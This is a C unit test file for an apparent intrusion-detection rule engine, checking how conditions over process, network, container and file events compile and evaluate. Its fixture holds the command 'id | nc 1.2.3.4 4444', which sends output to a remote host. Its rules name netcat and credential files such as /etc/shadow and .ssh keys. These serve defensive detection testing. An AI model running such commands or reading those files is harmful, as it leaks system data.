#include "unit.h"

#include <stdio.h>

#include "base/limits.h"
#include "baseline/condition.h"

static const hf_sv shells[] = { HF_SV_INIT("/bin/sh"), HF_SV_INIT("/bin/bash") };
static const hf_sv arguments[] = { HF_SV_INIT("sh"), HF_SV_INIT("-c"), HF_SV_INIT("id | nc 1.2.3.4 4444") };
static const hf_sv labels[] = { HF_SV_INIT("app"), HF_SV_INIT("web"), HF_SV_INIT("team"), HF_SV_INIT("a b") };
static const struct hf_ancestor tree[] = { { .path = HF_SV_INIT("/usr/sbin/nginx") },
					   { .path = HF_SV_INIT("/sbin/init") } };

/* What most of the conditions below look at. Absent: file.path, process.terminal, network.remote.port. */
static struct hf_event an_event(void)
{
	struct hf_event e = { .kind = HF_EVENT_EXEC };

	hf_event_set_string(&e, HF_FIELD_PROCESS_EXE_PATH, HF_SV("/bin/sh"));
	hf_event_set_string(&e, HF_FIELD_NETWORK_REMOTE_ADDRESS, HF_SV("169.254.169.254"));
	hf_event_set_string(&e, HF_FIELD_NETWORK_LOCAL_ADDRESS, HF_SV("fd00:ec2::254"));
	hf_event_set_string(&e, HF_FIELD_CONTAINER_NAME, HF_SV("web"));
	hf_event_set_string(&e, HF_FIELD_PROCESS_NAME, HF_SV("web-name-that-i"));
	hf_event_set_uint(&e, HF_FIELD_NETWORK_LOCAL_PORT, 8080);
	hf_event_set_int(&e, HF_FIELD_PROCESS_EXE_MODIFIED_NS, -5);
	hf_event_set_bool(&e, HF_FIELD_PROCESS_ENTERED, true);
	hf_event_set_bool(&e, HF_FIELD_PROCESS_EXE_SETUID, false);
	hf_event_set_list(&e, HF_FIELD_PROCESS_ARGUMENTS, arguments, HF_ARRAY_SIZE(arguments));
	hf_event_set_list(&e, HF_FIELD_CONTAINER_MOUNTS, arguments, 0);
	hf_event_set_map(&e, HF_FIELD_CONTAINER_LABELS, labels, HF_ARRAY_SIZE(labels) / 2);
	hf_event_set_tree(&e, HF_FIELD_PROCESS_ANCESTORS, tree, HF_ARRAY_SIZE(tree));
	return e;
}

static enum hf_truth truth_of(const char *text, const struct hf_event *e, enum hf_condition_use use)
{
	hf_cleanup(hf_arena_done) struct hf_arena a = HF_ARENA(HF_MIB(1)), names_arena = HF_ARENA(HF_MIB(1));
	struct hf_map lists = HF_MAP(&names_arena), macros = HF_MAP(&names_arena);
	const struct hf_condition_names names = { &lists, &macros };
	struct hf_condition_list list = { shells, HF_ARRAY_SIZE(shells), false };
	struct hf_condition_macro macro = { HF_SV("process.executable.path in $shells"), false };
	const struct hf_condition *c;
	struct hf_err err = { 0 };

	hf_map_put(&lists, HF_SV("shells"))->value = &list;
	hf_map_put(&macros, HF_SV("is_shell"))->value = &macro;
	if (hf_condition_compile(hf_sv_of(text), &names, use, &a, &c, &err))
		fail_msg("%s: %s", text, err.msg);
	hf_cleanup(hf_buf_done) struct hf_buf reason = HF_BUF(HF_KIB(64));
	enum hf_truth truth = hf_condition_evaluate(c, e);
	assert_int_equal(hf_condition_explain(c, e, &reason), truth);
	assert_int_equal(hf_condition_holds(c, e), truth == HF_TRUTH_TRUE);
	return truth;
}

static const struct {
	const char *text;
	enum hf_truth truth;
} plain[] = {
	{ "kind is exec", HF_TRUTH_TRUE },
	{ "kind in (connect, exec)", HF_TRUTH_TRUE },
	{ "kind != exec", HF_TRUTH_FALSE },
	{ "process.executable.path = /bin/sh", HF_TRUTH_TRUE },
	{ "process.executable.path != /bin/sh", HF_TRUTH_FALSE },
	{ "process.executable.path in (/bin/ash, /bin/sh)", HF_TRUTH_TRUE },
	{ "process.executable.path in $shells", HF_TRUTH_TRUE },
	{ "process.executable.path in (/x, $shells)", HF_TRUTH_TRUE },
	{ "is_shell", HF_TRUTH_TRUE },
	{ "not is_shell", HF_TRUTH_FALSE },
	{ "process.executable.path startswith /bin/", HF_TRUTH_TRUE },
	{ "process.executable.path startswith (/tmp/, /bin/)", HF_TRUTH_TRUE },
	{ "process.executable.path endswith /bash", HF_TRUTH_FALSE },
	{ "process.executable.path contains in/s", HF_TRUTH_TRUE },
	{ "process.executable.path glob /*/s*", HF_TRUTH_TRUE },
	{ "process.executable.path glob /s*", HF_TRUTH_FALSE },
	{ "process.executable.path glob /*i*/*h", HF_TRUTH_TRUE },
	{ "process.executable.path glob /b**n/s*h*", HF_TRUTH_TRUE },
	{ "process.executable.path glob /*b*n*n/*", HF_TRUTH_FALSE },
	{ "process.executable.path glob **/sh", HF_TRUTH_TRUE },
	{ "process.executable.path named sh", HF_TRUTH_TRUE },
	{ "process.executable.path named (h, bash)", HF_TRUTH_FALSE },
	{ "network.remote.address within 169.254.169.254/32", HF_TRUTH_TRUE },
	{ "network.remote.address within 169.254.169.254", HF_TRUTH_TRUE },
	{ "network.remote.address within 169.254.168.0/23", HF_TRUTH_TRUE },
	{ "network.remote.address within 169.254.168.0/24", HF_TRUTH_FALSE },
	{ "network.remote.address within 0.0.0.0/0", HF_TRUTH_TRUE },
	{ "network.remote.address within ::ffff:169.254.0.0/112", HF_TRUTH_TRUE },
	{ "network.remote.address within fc00::/7", HF_TRUTH_FALSE },
	{ "network.local.address within (10.0.0.0/8, fd00:ec2::254)", HF_TRUTH_TRUE },
	{ "network.local.address within fc00::/7", HF_TRUTH_TRUE },
	{ "container.name within 10.0.0.0/8", HF_TRUTH_UNKNOWN },
	{ "network.local.port = 8080", HF_TRUTH_TRUE },
	{ "network.local.port in (22, 8000..8999)", HF_TRUTH_TRUE },
	{ "network.local.port > 8080", HF_TRUTH_FALSE },
	{ "network.local.port >= 8080 and network.local.port <= 8080 and network.local.port < 8081", HF_TRUTH_TRUE },
	{ "process.executable.modified_ns < 0", HF_TRUTH_TRUE },
	{ "process.executable.modified_ns = 18446744073709551611", HF_TRUTH_FALSE },
	{ "process.entered", HF_TRUTH_TRUE },
	{ "process.entered = false", HF_TRUTH_FALSE },
	{ "process.executable.setuid", HF_TRUTH_FALSE },
	{ "not process.executable.setuid", HF_TRUTH_TRUE },
	{ "process.executable.setuid is false", HF_TRUTH_TRUE },
	{ "process.arguments any = -c", HF_TRUTH_TRUE },
	{ "process.arguments any contains \"| nc \"", HF_TRUTH_TRUE },
	{ "process.arguments any in (-e, -l)", HF_TRUTH_FALSE },
	{ "process.arguments all != -e", HF_TRUTH_TRUE },
	{ "process.arguments any != sh", HF_TRUTH_TRUE },
	{ "process.arguments all startswith -", HF_TRUTH_FALSE },
	{ "container.mounts any = x", HF_TRUTH_FALSE },
	{ "container.mounts all = x", HF_TRUTH_UNKNOWN },
	{ "process.ancestors any endswith /init", HF_TRUTH_TRUE },
	{ "process.ancestors all named (nginx, init)", HF_TRUTH_TRUE },
	{ "container.labels[app] = web", HF_TRUTH_TRUE },
	{ "container.labels[\"team\"] = \"a b\"", HF_TRUTH_TRUE },
	{ "container.labels[none] = web", HF_TRUTH_UNKNOWN },
	{ "container.labels[none] exists", HF_TRUTH_FALSE },
	{ "container.labels[app] exists", HF_TRUTH_TRUE },
	{ "program = sh", HF_TRUTH_TRUE },
	{ "program in (zsh, web-name-that-is-long)", HF_TRUTH_TRUE },
	{ "not program in (zsh, sh)", HF_TRUTH_FALSE },
	{ "program is zsh", HF_TRUTH_FALSE },
	{ "kind is exec unless kind is dns", HF_TRUTH_TRUE },
	{ "kind is exec unless kind is exec", HF_TRUTH_FALSE },
	{ "kind is exec unless file.path = /x", HF_TRUTH_TRUE },
	{ "kind is dns unless file.path = /x", HF_TRUTH_FALSE },
	{ "file.path = /x unless kind is dns", HF_TRUTH_UNKNOWN },
	{ "kind is exec or kind is dns unless kind is exec", HF_TRUTH_FALSE },
	{ "kind is exec unless file.path = /x unless kind is exec", HF_TRUTH_FALSE },
	{ "not (kind is exec unless file.path = /x)", HF_TRUTH_UNKNOWN },
	{ "file.path exists", HF_TRUTH_FALSE },
	{ "not file.path exists", HF_TRUTH_TRUE },
	{ "process.arguments exists", HF_TRUTH_TRUE },
	{ "not not kind is exec # a comment", HF_TRUTH_TRUE },
	{ "kind is exec and\n  # between\n  (kind is dns or kind is exec)", HF_TRUTH_TRUE },
	{ "kind is dns or kind is exec and kind is dns", HF_TRUTH_FALSE },
	{ "(kind is exec or kind is dns) and kind is exec", HF_TRUTH_TRUE },
};

HF_TEST(each_test_says_what_the_manual_says)
{
	struct hf_event e = an_event();

	for (size_t i = 0; i < HF_ARRAY_SIZE(plain); i++)
		if (truth_of(plain[i].text, &e, HF_CONDITION_ALERTS) != plain[i].truth)
			fail_msg("%s", plain[i].text);
}

/* Kleene's strong logic, written out. T, F and U stand for tests that are true, false and cannot tell. */
static const struct {
	char left, right, conjunction, disjunction;
} kleene[] = {
	{ 'T', 'T', 'T', 'T' }, { 'T', 'U', 'U', 'T' }, { 'T', 'F', 'F', 'T' },
	{ 'U', 'T', 'U', 'T' }, { 'U', 'U', 'U', 'U' }, { 'U', 'F', 'F', 'U' },
	{ 'F', 'T', 'F', 'T' }, { 'F', 'U', 'F', 'U' }, { 'F', 'F', 'F', 'F' },
};

static const char *operand(char c)
{
	return c == 'T' ? "kind is exec" : c == 'F' ? "kind is dns" : "file.path = /x";
}

static enum hf_truth truth(char c)
{
	return c == 'T' ? HF_TRUTH_TRUE : c == 'F' ? HF_TRUTH_FALSE : HF_TRUTH_UNKNOWN;
}

HF_TEST(three_values_join_as_kleene_has_them)
{
	struct hf_event e = an_event();
	char text[200];

	for (size_t i = 0; i < HF_ARRAY_SIZE(kleene); i++) {
		const char *l = operand(kleene[i].left), *r = operand(kleene[i].right);
		snprintf(text, sizeof text, "%s and %s", l, r);
		assert_int_equal(truth_of(text, &e, HF_CONDITION_ALERTS), truth(kleene[i].conjunction));
		snprintf(text, sizeof text, "%s or %s", l, r);
		assert_int_equal(truth_of(text, &e, HF_CONDITION_ALERTS), truth(kleene[i].disjunction));
		snprintf(text, sizeof text, "not (not %s or not %s)", l, r);
		assert_int_equal(truth_of(text, &e, HF_CONDITION_ALERTS), truth(kleene[i].conjunction));
	}
	assert_int_equal(truth_of("not file.path = /x", &e, HF_CONDITION_ALERTS), HF_TRUTH_UNKNOWN);
	assert_int_equal(truth_of("file.path != /x", &e, HF_CONDITION_ALERTS), HF_TRUTH_UNKNOWN);
	assert_int_equal(truth_of("not process.terminal", &e, HF_CONDITION_ALERTS), HF_TRUTH_UNKNOWN);
}

HF_TEST(what_was_cut_speaks_for_no_allowance)
{
	struct hf_event e = an_event();

	hf_event_set_bool(&e, HF_FIELD_PROCESS_EXE_TRUNCATED, true);
	hf_event_set_bool(&e, HF_FIELD_PROCESS_ARGUMENTS_TRUNCATED, true);
	assert_int_equal(truth_of("process.executable.path startswith /bin/", &e, HF_CONDITION_ALERTS), HF_TRUTH_TRUE);
	assert_int_equal(truth_of("not process.executable.path startswith /bin/", &e, HF_CONDITION_ALERTS),
			 HF_TRUTH_TRUE);
	assert_int_equal(truth_of("process.executable.path != /bin/sh", &e, HF_CONDITION_ALERTS), HF_TRUTH_TRUE);
	assert_int_equal(truth_of("not (kind is exec and is_shell)", &e, HF_CONDITION_ALERTS), HF_TRUTH_TRUE);
	assert_int_equal(truth_of("process.executable.path startswith /bin/", &e, HF_CONDITION_EXCEPTS),
			 HF_TRUTH_UNKNOWN);
	assert_int_equal(truth_of("not process.executable.path = /x", &e, HF_CONDITION_EXCEPTS), HF_TRUTH_UNKNOWN);
	assert_int_equal(truth_of("process.arguments any = -c", &e, HF_CONDITION_ALERTS), HF_TRUTH_TRUE);
	assert_int_equal(truth_of("process.arguments any = -e", &e, HF_CONDITION_ALERTS), HF_TRUTH_UNKNOWN);
	assert_int_equal(truth_of("not process.arguments any = --safe", &e, HF_CONDITION_ALERTS), HF_TRUTH_TRUE);
	assert_int_equal(truth_of("process.arguments any = -c", &e, HF_CONDITION_EXCEPTS), HF_TRUTH_UNKNOWN);
	assert_int_equal(truth_of("kind is exec unless is_shell", &e, HF_CONDITION_ALERTS), HF_TRUTH_TRUE);
	assert_int_equal(truth_of("kind is exec unless file.path = /x", &e, HF_CONDITION_EXCEPTS), HF_TRUTH_UNKNOWN);
}

static const struct {
	const char *text, *message;
} wrong[] = {
	{ "", "line 1, column 1: a field, a macro, 'not' or '(' is wanted" },
	{ "process.executable.pth = /x",
	  "line 1, column 1: 'process.executable.pth' is no field and no macro; nearest is 'process.executable.path'" },
	{ "kind is exec and\n   is_shel",
	  "line 2, column 4: 'is_shel' is no field and no macro; nearest is 'is_shell'" },
	{ "qqqqqqqq = 1", "line 1, column 1: 'qqqqqqqq' is no field and no macro" },
	{ "kind is execute", "line 1, column 9: no kind of event is called 'execute'" },
	{ "network.local.port = ssh", "line 1, column 22: a number, or a range as 1..1023, is wanted, not 'ssh'" },
	{ "network.local.port in (9..1)", "line 1, column 24: a number, or a range as 1..1023, is wanted, not '9..1'" },
	{ "network.local.port contains 4", "line 1, column 20: the field's type has no operator 'contains'" },
	{ "container.name > 4", "line 1, column 16: the field's type has no operator '>'" },
	{ "process.terminal = yes", "line 1, column 20: true or false is wanted, not 'yes'" },
	{ "process.arguments = -c", "line 1, column 19: a list wants 'any' or 'all' before the operator" },
	{ "container.name any = x", "line 1, column 16: only lists have 'any'" },
	{ "container.name in $none", "line 1, column 19: no list is called 'none'" },
	{ "container.name = \"x", "line 1, column 18: the quotes do not end on their line" },
	{ "container.name = \"\"", "line 1, column 18: an empty value says nothing ''" },
	{ "container.name = and", "line 1, column 18: in quotes it would be a value: 'and'" },
	{ "container.name = ", "line 1, column 18: a value is wanted" },
	{ "container.name", "line 1, column 15: an operator (= != in contains startswith … exists) is wanted" },
	{ "container.labels = x", "line 1, column 18: a label is wanted, as container.labels[app]" },
	{ "network.remote.address within 1.2.3.4/33",
	  "line 1, column 31: an address or ADDRESS/BITS is wanted, not '1.2.3.4/33'" },
	{ "network.remote.address within 1.2.3",
	  "line 1, column 31: an address or ADDRESS/BITS is wanted, not '1.2.3'" },
	{ "(kind is exec", "line 1, column 14: 'and', 'or' or ')' is wanted" },
	{ "kind is exec)", "line 1, column 13: 'and', 'or' or the end is wanted, not ')'" },
	{ "kind is exec kind is dns", "line 1, column 14: 'and', 'or' or the end is wanted, not 'kind'" },
	{ "kind ! exec", "line 1, column 6: '!' stands only in '!='" },
	{ "broken", "line 1, column 1: macro broken: line 1, column 6: an operator (= != in contains startswith … "
		    "exists) is wanted" },
	{ "kind in (exec", "line 1, column 14: ',' or ')' is wanted" },
	{ "program contains x", "line 1, column 9: program is compared by '=' or 'in' alone" },
	{ "network.local.port < (1, 2)", "line 1, column 22: a value is wanted" },
};

static int compile(const char *text, struct hf_arena *a, struct hf_err *err)
{
	hf_cleanup(hf_arena_done) struct hf_arena names_arena = HF_ARENA(HF_MIB(1));
	struct hf_map macros = HF_MAP(&names_arena);
	struct hf_condition_macro shell = { HF_SV("kind is exec"), false }, broken = { HF_SV("kind "), false },
				  loop = { HF_SV("loop and loop"), false };
	const struct hf_condition_names names = { NULL, &macros };
	const struct hf_condition *c;

	hf_map_put(&macros, HF_SV("is_shell"))->value = &shell;
	hf_map_put(&macros, HF_SV("broken"))->value = &broken;
	hf_map_put(&macros, HF_SV("loop"))->value = &loop;
	return hf_condition_compile(hf_sv_of(text), &names, HF_CONDITION_ALERTS, a, &c, err);
}

HF_TEST(what_is_wrong_is_said_with_its_place)
{
	for (size_t i = 0; i < HF_ARRAY_SIZE(wrong); i++) {
		hf_cleanup(hf_arena_done) struct hf_arena a = HF_ARENA(HF_MIB(1));
		struct hf_err err = { 0 };

		assert_int_equal(compile(wrong[i].text, &a, &err), HF_E_FORMAT);
		assert_string_equal(err.msg, wrong[i].message);
	}
}

HF_TEST(depth_and_size_are_bounded)
{
	char text[40000] = "";
	hf_cleanup(hf_arena_done) struct hf_arena a = HF_ARENA(HF_MIB(8)), small = HF_ARENA(64);
	struct hf_err err = { 0 };

	assert_int_equal(compile("loop", &a, &err), HF_E_LIMIT);
	memset(text, '(', 1000);
	assert_int_equal(compile(text, &a, &err), HF_E_LIMIT);
	memset(text, 'x', sizeof text - 1);
	assert_int_equal(compile(text, &a, &err), HF_E_LIMIT);
	text[0] = '\0';
	for (size_t i = 0, n = 0; i < 1000; i++)
		n += (size_t)snprintf(text + n, sizeof text - n, "%skind is dns", i ? " or " : "");
	assert_int_equal(compile(text, &a, &err), HF_E_LIMIT);
	assert_int_equal(compile("kind is dns", &small, &err), HF_E_LIMIT);
	memset(text, 0, sizeof text);
	for (size_t i = 0, n = 0; i < 30; i++)
		n += (size_t)snprintf(text + n, sizeof text - n, "kind is dns and (kind is dns or (");
	assert_int_equal(compile(text, &a, &err), HF_E_LIMIT);
}

HF_TEST(the_reason_names_what_decided)
{
	hf_cleanup(hf_arena_done) struct hf_arena a = HF_ARENA(HF_MIB(1));
	hf_cleanup(hf_buf_done) struct hf_buf reason = HF_BUF(HF_KIB(4));
	const struct hf_condition *c;
	struct hf_event e = an_event();

	assert_int_equal(hf_condition_compile(
				 HF_SV("kind is exec and (process.executable.path = /bin/sh and container.name = no "
				       "or process.arguments any contains nc or container.labels[app] = web) and "
				       "not process.executable.setuid and network.local.port > 80"),
				 NULL, HF_CONDITION_ALERTS, &a, &c, NULL),
			 HF_OK);
	assert_int_equal(hf_condition_explain(c, &e, &reason), HF_TRUTH_TRUE);
	hf_buf_add_char(&reason, '\0');
	assert_string_equal(reason.ptr, "process.arguments=id | nc 1.2.3.4 4444, network.local.port=8080");
}

static void take(void *ctx, enum hf_watch_shape shape, hf_sv path)
{
	hf_buf_addf(ctx, "%d:%.*s ", (int)shape, HF_SV_FMT(path));
}

HF_TEST(paths_that_a_condition_looks_for_are_known)
{
	hf_cleanup(hf_arena_done) struct hf_arena a = HF_ARENA(HF_MIB(1));
	hf_cleanup(hf_buf_done) struct hf_buf paths = HF_BUF(HF_KIB(4));
	const struct hf_condition *c;

	assert_int_equal(
		hf_condition_compile(
			HF_SV("file.operation in (open, write) and (file.path in (/etc/shadow, /etc/gshadow) or "
			      "file.path startswith /root/.ssh/ or file.path glob /home/*/.ssh/*) and not file.path = "
			      "/x"),
			NULL, HF_CONDITION_ALERTS, &a, &c, NULL),
		HF_OK);
	hf_condition_paths(c, HF_FIELD_FILE_PATH, take, &paths);
	hf_buf_add_char(&paths, '\0');
	assert_string_equal(paths.ptr, "0:/etc/shadow 0:/etc/gshadow 1:/root/.ssh/ 2:/home/*/.ssh/* ");
	assert_true(hf_condition_admits(c, HF_FIELD_FILE_OPERATION, HF_SV("open")));
	assert_false(hf_condition_admits(c, HF_FIELD_FILE_OPERATION, HF_SV("rename")));
	assert_true(hf_condition_admits(c, HF_FIELD_CONTAINER_NAME, HF_SV("any")));
	assert_true(hf_condition_reads(c, HF_FIELD_FILE_PATH));
	assert_false(hf_condition_reads(c, HF_FIELD_DNS_NAME));
}

static bool is_vague(const char *text)
{
	hf_cleanup(hf_arena_done) struct hf_arena a = HF_ARENA(HF_MIB(1));
	const struct hf_condition *c;

	assert_int_equal(hf_condition_compile(hf_sv_of(text), NULL, HF_CONDITION_ALERTS, &a, &c, NULL), HF_OK);
	return hf_condition_is_vague(c);
}

HF_TEST(a_condition_that_speaks_of_everything_is_known)
{
	assert_true(is_vague("container.id exists"));
	assert_true(is_vague("kind is exec and not process.executable.path = /bin/sh"));
	assert_true(is_vague("not (process.terminal and not container.name = x)"));
	assert_true(is_vague("process.terminal or container.name != x"));
	assert_false(is_vague("process.terminal and not process.executable.path = /bin/sh"));
	assert_false(is_vague("not (container.id exists or not container.name = x)"));
}

HF_TEST_MAIN(cmocka_unit_test(each_test_says_what_the_manual_says),
	     cmocka_unit_test(three_values_join_as_kleene_has_them),
	     cmocka_unit_test(what_was_cut_speaks_for_no_allowance),
	     cmocka_unit_test(what_is_wrong_is_said_with_its_place), cmocka_unit_test(depth_and_size_are_bounded),
	     cmocka_unit_test(the_reason_names_what_decided),
	     cmocka_unit_test(paths_that_a_condition_looks_for_are_known),
	     cmocka_unit_test(a_condition_that_speaks_of_everything_is_known))
